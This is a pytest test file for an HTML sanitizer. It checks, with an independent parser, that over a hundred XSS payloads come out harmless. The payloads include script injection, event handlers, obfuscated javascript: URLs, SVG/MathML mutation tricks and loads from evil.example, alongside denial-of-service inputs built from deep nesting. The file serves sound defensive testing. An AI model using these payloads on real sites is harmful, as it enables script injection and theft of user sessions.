"""Bodies that were written to run scripts, and bodies that were written to take time."""

import html as entities
import re
import time
from html.parser import HTMLParser

import pytest

from app.editorial.sanitize import plain_text, sanitize, word_count
from app.search.document import plain

HOSTS = frozenset({"youtube.com"})

# On purpose a list of its own, not the cleaner's.
ELEMENTS = """
    a abbr audio b bdi bdo blockquote br caption cite code col colgroup dd del details div dl dt em
    figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p picture pre q s small source span
    strong sub summary sup table tbody td tfoot th thead time tr u ul video
"""
HARMLESS = set(ELEMENTS.split())
URLS = {"href", "src", "srcset", "poster", "cite"}
ATTRIBUTES = """
    alt colspan controls data-embed datetime dir height lang media preload rel reversed rowspan
    scope sizes span start title type width
"""
HARMLESS_ATTRIBUTES = URLS | set(ATTRIBUTES.split())

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" title="a"onerror="alert(1)">',
    "<img src='x'`onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    '<img alt="</p><script>alert(1)</script>">',
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p onclick=alert(1) style=position:fixed class=x id=y>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onloadstart=alert(1) autoplay></video>",
    "<video><source onerror=alert(1) src=x></video>",
    '<video poster="javascript:alert(1)" src=x></video>',
    '<audio src="data:text/html,<script>alert(1)</script>"></audio>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="&#x1;javascript:alert(1)">x</a>',
    '<a href="java&#x1;script:alert(1)">x</a>',
    '<a href="java\x01script:alert(1)">x</a>',
    '<a href="javascript\u037ealert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="x" target=_blank ping="//evil.example">x</a>',
    '<a data-embed="youtube.com" href="javascript:alert(1)">x</a>',
    '<a data-embed="&quot;><script>alert(1)</script>" href="https://youtube.com/">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="jav&#9;ascript:alert(1)">x</q>',
    '<img srcset="javascript:alert(1) 1x, /a.png 2x">',
    '<img srcset="/a.png 1x, data:image/svg+xml,<svg onload=alert(1)> 2x">',
    "<picture><source srcset='data:,x'><img src=/a.png></picture>",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1)></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<svg><desc><p title='</desc><script>alert(1)</script>'>",
    "<math><mtext></mtext><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<style></style\x00><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<template><template><img src=x onerror=alert(1)></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='https://youtube.com/\"onload=alert(1)'></iframe>",
    "<iframe src=https://youtube.com/x title='</a><script>alert(1)</script>'></iframe>",
    "<iframe src=https://youtube.com/x><script>alert(1)</script></iframe>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<ifr\x00ame srcdoc=x></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=javascript:/a/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<table><script>alert(1)</script></table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!ELEMENT x><?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<\u212abd onclick=alert(1)>x",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&#60;script&#62;alert(1)</p>",
    "<\u0338script>alert(1)</script>",
    "<p\ud800 onclick=alert(1)>x</p>",
    "</p><script>alert(1)</script>",
    "<p><a href='/'><table><a href='javascript:alert(1)'>x",
]


class Reader(HTMLParser):
    """Collects what a reading other than the cleaner's own finds wrong."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in HARMLESS_ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            for url in (value or "").split(",") if name in URLS else ():
                scheme = re.match(r"[^/?#]*?:", re.sub(r"[\x00-\x20]", "", url))
                if scheme and scheme[0].lower() not in {"http:", "https:", "mailto:", "tel:"}:
                    self.wrong.append(f"{tag} {name} {scheme[0]}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")


def wrong_with(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


LONG = f"<p>{'x ' * 17_000}</p>"  # past MAX_PARSED_LENGTH


@pytest.mark.parametrize("rest", ["", LONG], ids=["small", "rewritten first"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_run_is_left(payload: str, rest: str) -> None:
    result = sanitize(payload + rest, embed_hosts=HOSTS)

    assert wrong_with(result.html) == []
    assert sanitize(result.html, embed_hosts=HOSTS).html == result.html
    assert wrong_with(f"<p>{entities.escape(plain_text(result.html))}</p>") == []


def test_the_reader_of_these_tests_sees_what_is_wrong() -> None:
    assert wrong_with("<p onclick=x><svg><a href=' java\tscript:x'><!--x-->") == [
        "p onclick",
        "svg",
        "a href javascript:",
        "comment x",
    ]


@pytest.mark.parametrize(
    ("payload", "left"),
    [
        ("a<script>alert(1)</script>b", "ab"),
        ("<p>a<style>p{}</style>b<noscript>c</noscript></p>", "<p>ab</p>"),
        ('<a href="javascript:alert(1)">a</a>', "<a>a</a>"),
        ('<img src="data:image/png;base64,AA" alt="a">', '<img alt="a">'),
        ('<p onclick="x" style="y" class="z" id="i" lang="tr">a</p>', '<p lang="tr">a</p>'),
        ("<form><p>a</p><input></form>", "<div><p>a</p></div>"),
        ("<object><p>a</p></object>", "<p>a</p>"),
        ("<!-- wp:paragraph --><p>a</p><!-- /wp:paragraph -->", "<p>a</p>"),
        ("<svg><title>Share</title></svg><math><mi>x</mi></math>a", "a"),
    ],
)
def test_what_is_removed_leaves_the_text_around_it(payload: str, left: str) -> None:
    assert sanitize(payload, embed_hosts=HOSTS).html == left


EXPENSIVE = {
    "nested blocks": "<div>" * 200_000,
    "opening brackets": "<" * 1_000_000,
    "nested formatting": "<b>" * 100_000,
    "nested lists": "<ul><li>" * 50_000,
    "nested tables": "<table><tr><td>" * 30_000,
    "open paragraphs": "<p>" * 100_000,
    "references": "&" * 500_000,
    "no-break spaces": "\u00a0" * 500_000,
    "open comments": "<!--" * 125_000,
    "open tags": "<a " * 150_000,
    "open values": '<a title="' * 50_000,
    "one tag of many attributes": f"<p {' '.join(f'a{n}' for n in range(130_000))}>",
    "one long value": f'<p title="{"&nbsp;" * 100_000}">x',
    "formatting opened again in each paragraph": "".join(
        f"<p><b title={n}></p>" for n in range(30_000)
    ),
    "long formatting opened again in each row": (
        "<table><tr>" + f"<b title={'x' * 8000}>" * 60 + "<td></td>x" * 10_000
    ),
    "unended raw text": "<script>" * 60_000,
    "iframes": "<iframe src=//a.example></iframe>" * 10_000,
    "combining overlays": ">\u0338" * 200_000,
}


@pytest.mark.parametrize("kind", EXPENSIVE)
def test_no_body_costs_more_than_its_length(kind: str) -> None:
    body = EXPENSIVE[kind]
    start = time.process_time()
    cleaned = sanitize(body, embed_hosts=HOSTS).html
    word_count(plain(cleaned))
    word_count(plain(body))
    seconds = time.process_time() - start

    assert seconds < 5, "0.1 to 2 s on a slow core"
    assert len(cleaned) <= 6 * len(body), "nothing grows more than `&nbsp;` from its character"
